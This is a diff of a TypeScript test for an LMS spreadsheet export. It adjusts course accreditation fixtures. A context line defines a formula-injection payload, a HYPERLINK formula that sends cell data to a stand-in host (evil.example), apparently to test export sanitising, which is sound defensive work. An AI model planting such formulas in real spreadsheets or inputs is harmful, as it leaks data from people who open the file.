@@ -1,4 +1,4 @@
-import { evaluationResponses, identities, users } from '@lms/db';
+import { courseAccreditations, evaluationResponses, identities, users } from '@lms/db';
 import { eq } from 'drizzle-orm';
 import ExcelJS from 'exceljs';
 import t from 'tap';
@@ -16,6 +16,8 @@ const courseId = w.course.id;
 const chapterId = w.chapterList[0]!.id;
 const preQuiz = await w.quizOfChapter(chapterId);
 await markTests(db, preQuiz.id, w.tree.finalQuizId);
+// The world's course is accredited in KUM by its fixture: this one is under SKP-KEMENKES only.
+await db.delete(courseAccreditations).where(eq(courseAccreditations.courseId, courseId));
 const accreditationId = await accredit(db, courseId);
 const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 
